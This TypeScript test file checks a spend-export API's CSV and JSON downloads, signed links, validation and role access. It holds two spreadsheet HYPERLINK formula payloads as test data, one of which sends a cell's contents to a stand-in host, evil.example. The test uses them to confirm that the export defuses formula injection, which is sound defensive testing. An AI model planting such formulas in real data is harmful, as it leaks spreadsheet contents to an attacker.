import { readFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { demoBudget } from '../../functions/budgets/demo-data.js';
import { SPEND_COLUMNS } from '../../functions/exports/model.js';
import { fiscalYearOf } from '../../functions/shared/fiscal-year.js';
import { PROJECT_ROOT } from '../../infra/constructs/handler-function.js';
import { approvedRequest, call, createVendor, fetchOutsideApi, tokenFor } from './support.js';

// This file works on the seeded (current) fiscal year's DIGITAL and STRATEGY lines: nobody else
// commits there or lists their requests.
const startMonth = Number(
  JSON.parse(readFileSync(path.join(PROJECT_ROOT, 'cdk.json'), 'utf8')).context[
    'techops:fiscalYearStartMonth'
  ],
);
const seededYear = fiscalYearOf(new Date().toISOString().slice(0, 10), startMonth);
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")';
const HOSTILE_VENDOR = '=HYPERLINK("http://evil.example","Validation Partners")';
let vendorA: string;
let vendorB: string;

let finance: string;

/** Parses RFC 4180 CSV: quoted cells, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index++;
    } else cell += char;
  }
  return rows;
}

/** Asks for an export; the 303 is not followed, so its Location (the download) can be checked. */
const download = (query: string, token = finance) =>
  call('GET', `/exports/spend?${query}`, { token, redirect: 'manual' });

const cents = (amounts: string[]) =>
  amounts.reduce((sum, amount) => sum + BigInt(amount.replace('.', '')), 0n);

beforeAll(async () => {
  finance = await tokenFor({ groups: ['finance'] });
  // Real vendors (one with a name a spreadsheet would run) and requests approved through the
  // workflow, which commits their amounts on the seeded year's lines.
  [vendorA, vendorB] = await Promise.all([createVendor(HOSTILE_VENDOR), createVendor('Commissioning Co')]);
  const today = new Date().toISOString().slice(0, 10);
  const dates = { startDate: today, endDate: today };
  const requests = await Promise.all([
    approvedRequest({
      businessFunction: 'DIGITAL',
      category: 'DIGITAL_DATA',
      estimatedCost: { amount: '45000.00', currency: 'USD' },
      preferredVendorId: vendorA,
      title: HOSTILE_TITLE,
      ...dates,
    }),
    approvedRequest({
      businessFunction: 'DIGITAL',
      category: 'DIGITAL_DATA',
      estimatedCost: { amount: '12000.50', currency: 'USD' },
      preferredVendorId: vendorB,
      title: 'Commissioning, "phase 2"',
      ...dates,
    }),
    approvedRequest({
      businessFunction: 'STRATEGY',
      category: 'TECH_TRANSFER',
      estimatedCost: { amount: '30000.00', currency: 'USD' },
      preferredVendorId: vendorA,
      title: 'Tech transfer support',
      ...dates,
    }),
  ]);
  for (const [request, invoiceNumber, amount] of [
    [requests[0]!, 'A-1', '20000.00'],
    [requests[1]!, 'B-1', '13000.00'],
    [requests[2]!, 'A-2', '5000.25'],
  ] as const) {
    const actual = await call('POST', '/actuals', {
      token: finance,
      body: {
        requestId: request.id,
        invoiceNumber,
        invoiceDate: '2026-03-31',
        amount: { amount, currency: 'USD' },
      },
    });
    expect(actual.status).toBe(201);
  }
});

describe('the demo budget', () => {
  it('is seeded for the current fiscal year on an empty data dir', async () => {
    const view = await call('GET', `/budgets/${seededYear}`, { token: finance });

    expect(view.status).toBe(200);
    expect(view.body.envelope).toEqual({ amount: demoBudget.envelope, currency: 'USD' });
    expect(
      Object.fromEntries(
        view.body.lines.map((line: { businessFunction: string; allocated: { amount: string } }) => [
          line.businessFunction,
          line.allocated.amount,
        ]),
      ),
    ).toEqual(demoBudget.allocations);
  });

  it('is seeded through the budget commands, so its audit trail says who set what', async () => {
    const history = await call('GET', `/budgets/${seededYear}/history?limit=100`, { token: finance });

    expect(history.status).toBe(200);
    const seeded = history.body.items.filter(
      (event: { actor: { name: string } }) => event.actor.name === 'Demo data',
    );
    expect(seeded.map((event: { action: string }) => event.action)).toEqual([
      'BUDGET_ENVELOPE_SET',
      ...Object.keys(demoBudget.allocations).map(() => 'BUDGET_ALLOCATION_SET'),
    ]);
    expect(seeded[0].after).toEqual({
      envelope: { amount: demoBudget.envelope, currency: 'USD' },
      controls: { atSubmission: 'WARN', atApproval: 'STOP' },
      fourEyesThreshold: null,
    });
  });
});

describe('GET /exports/spend', () => {
  it('answers 303 to a CSV download that opens as a table whose totals equal the budget view’s', async () => {
    const response = await download(`fiscalYear=${seededYear}&format=csv`);

    expect(response.status).toBe(303);
    const location = response.headers.get('location')!;
    expect(response.body.downloadUrl).toBe(location);
    const file = await fetchOutsideApi(location);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(file.headers.get('content-disposition')).toMatch(
      new RegExp(`^attachment; filename="spend-${seededYear}-\\d{8}T\\d{6}Z\\.csv"$`),
    );
    const bytes = Buffer.from(await file.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([...SPEND_COLUMNS]);
    expect(rows.every((row) => row.length === SPEND_COLUMNS.length)).toBe(true);
    const column = (name: (typeof SPEND_COLUMNS)[number]) =>
      rows.map((row) => row[SPEND_COLUMNS.indexOf(name)]!);
    const view = await call('GET', `/budgets/${seededYear}`, { token: finance });
    expect(cents(column('committed'))).toBe(cents([view.body.committed.amount]));
    expect(cents(column('actual'))).toBe(cents([view.body.actual.amount]));
    expect(rows).toHaveLength(3);
    expect(response.body.rows).toBe(3);
    expect(response.body.totals).toEqual({ committed: view.body.committed, actual: view.body.actual });
  });

  it('neutralises cells a spreadsheet would run as a formula, and quotes per RFC 4180', async () => {
    const response = await download(`fiscalYear=${seededYear}&businessFunction=DIGITAL`);
    const text = (await (await fetchOutsideApi(response.headers.get('location')!)).text()).replace(
      /^\uFEFF/,
      '',
    );

    const rows = parseCsv(text).slice(1);
    const titles = rows.map((row) => row[SPEND_COLUMNS.indexOf('title')]);

    expect(titles).toContain(`'${HOSTILE_TITLE}`);
    expect(rows.map((row) => row[SPEND_COLUMNS.indexOf('vendorName')])).toContain(`'${HOSTILE_VENDOR}`);
    expect(titles).toContain('Commissioning, "phase 2"');
    expect(rows.flat().every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
    expect(rows.map((row) => row[SPEND_COLUMNS.indexOf('businessFunction')])).toEqual(['DIGITAL', 'DIGITAL']);
  });

  it('exports JSON with the rows of one vendor and their totals', async () => {
    const response = await download(`fiscalYear=${seededYear}&format=json&vendorId=${vendorA}`);
    const file = await fetchOutsideApi(response.headers.get('location')!);

    const document = (await file.json()) as { rows: Record<string, unknown>[]; totals: unknown };

    expect(file.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(document.rows.map((row) => row.vendorId)).toEqual([vendorA, vendorA]);
    expect(document.rows.find((row) => row.businessFunction === 'STRATEGY')).toMatchObject({
      committed: '30000.00',
      actual: '5000.25',
      remaining: '24999.75',
      vendorName: HOSTILE_VENDOR,
      status: 'APPROVED',
      approvalDate: new Date().toISOString().slice(0, 10),
      invoiceCount: 1,
    });
    expect(document.totals).toEqual({
      rows: 2,
      committed: { amount: '75000.00', currency: 'USD' },
      actual: { amount: '25000.25', currency: 'USD' },
    });
  });

  it('refuses a tampered or foreign download link (the local S3 checks the signature)', async () => {
    const response = await download(`fiscalYear=${seededYear}`);
    const location = new URL(response.headers.get('location')!);
    location.searchParams.set('response-content-type', 'text/html');

    const file = await fetchOutsideApi(location);

    expect(file.status).toBe(403);
  });

  it('lists every invalid parameter at once', async () => {
    const response = await call('GET', '/exports/spend?fiscalYear=2026&format=xlsx&vendorId=nope', {
      token: finance,
    });

    expect(response.status).toBe(400);
    expect(response.body.errors.map((issue: { field: string }) => issue.field).sort()).toEqual([
      'fiscalYear',
      'format',
      'vendorId',
    ]);
  });

  it.each([['requester'], ['approver'], ['vendor-manager']])('refuses the %s role with 403', async (role) => {
    const token = await tokenFor({ groups: [role], businessFunction: 'DIGITAL' });

    const response = await download(`fiscalYear=${seededYear}`, token);

    expect(response.status).toBe(403);
  });

  it('answers 404 for a fiscal year without envelope', async () => {
    const response = await download('fiscalYear=FY2090');

    expect(response.status).toBe(404);
  });
});
